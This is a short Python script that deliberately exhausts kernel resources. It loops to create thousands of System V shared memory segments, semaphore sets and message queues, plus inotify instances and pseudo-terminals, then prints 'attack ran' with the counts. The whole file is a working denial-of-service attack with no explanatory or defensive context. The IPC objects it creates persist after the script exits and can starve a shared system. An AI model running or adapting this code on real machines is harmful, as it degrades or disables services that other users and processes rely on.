import ctypes
import os
import pty

libc = ctypes.CDLL(None, use_errno=True)
made = {"shm": 0, "sem": 0, "msg": 0, "pty": 0, "inotify": 0}
for name, make in (("shm", lambda: libc.shmget(0, 1 << 24, 0o1666)), ("sem", lambda: libc.semget(0, 100, 0o1666)), ("msg", lambda: libc.msgget(0, 0o1666)), ("inotify", libc.inotify_init)):
    while made[name] < 5_000 and make() >= 0:
        made[name] += 1
try:
    while made["pty"] < 5_000:
        pty.openpty()
        made["pty"] += 1
except OSError:
    pass
print("attack ran", made)
